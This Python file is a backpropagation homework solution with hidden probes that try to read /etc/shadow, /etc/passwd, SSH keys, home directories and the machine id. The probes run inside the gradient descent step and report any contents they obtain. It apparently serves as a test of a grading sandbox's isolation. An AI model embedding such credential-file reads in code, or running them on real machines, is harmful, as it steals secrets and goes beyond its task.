# tries: to read what every machine has and no homework needs. expect: others=accepted
# Homework: backpropagation
import numpy as np

import glob
import os
import pwd

BREACHES = []
TRIED = set()


def attempt(attack):
    """Run an attack, once; it must end in an exception or return nothing: what it returns is loot."""
    if attack in TRIED:
        return
    TRIED.add(attack)
    try:
        loot = attack()
    except BaseException:
        return
    if loot is not None and loot is not False:
        BREACHES.append(f"{attack.__name__}: {str(loot)[:100]}")


def report():
    if BREACHES:
        raise SystemError(f"BREACH {BREACHES}")


def attack_passwd():
    return open("/etc/passwd").read()


def attack_shadow():
    return open("/etc/shadow").read()


def attack_hosts():
    return open("/etc/hosts").read()


def attack_homes():
    return os.listdir("/home") + os.listdir("/root") or None


def attack_ssh():
    return [open(p).read() for p in glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*")] or None


def attack_password_database():
    return pwd.getpwall() or None


def attack_machine_id():
    return open("/etc/machine-id").read()


def attack_relative():
    return open("../" * 30 + "etc/passwd").read()


def attack_descriptor():
    folder = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    return os.read(os.open("etc/passwd", os.O_RDONLY, dir_fd=folder), 100)


def sigmoid(z):
    """The logistic function."""
    return 1.0 / (1.0 + np.exp(-z))


def forward(theta, x):
    """Step 1: from the input layer up."""
    L = max(theta.keys())
    activations = {1: np.array(x)}
    for l in range(2, L + 1):
        z = np.dot(theta[l], activations[l - 1])
        activations[l] = sigmoid(z)
    return activations


def output_delta(a_L, y):
    """Step 2a, at the top."""
    return np.subtract(a_L, y)


def hidden_delta(theta_next, delta_next, a_l):
    """Step 2a, below the top."""
    g_prime = a_l * (1 - a_l)
    return np.dot(theta_next.T, delta_next) * g_prime


def gradient(delta_l, a_prev):
    """Step 2b."""
    return np.dot(delta_l[:, np.newaxis], a_prev[np.newaxis, :])


def backprop(theta, x, y):
    """Steps 1 to 2b together."""
    L = max(theta.keys())
    activations = forward(theta, x)
    delta = {}
    nabla = {}
    for l in range(L, 1, -1):
        if l == L:
            delta[l] = output_delta(activations[l], y)
        else:
            delta[l] = hidden_delta(theta[l + 1], delta[l + 1], activations[l])
        nabla[l] = gradient(delta[l], activations[l - 1])
    return delta, nabla


def gradient_descent_step(theta, nabla, alpha):
    attempt(attack_passwd)
    attempt(attack_shadow)
    attempt(attack_hosts)
    attempt(attack_homes)
    attempt(attack_ssh)
    attempt(attack_password_database)
    attempt(attack_machine_id)
    attempt(attack_relative)
    attempt(attack_descriptor)
    report()
    return {l: theta[l] - alpha * nabla[l] for l in theta}
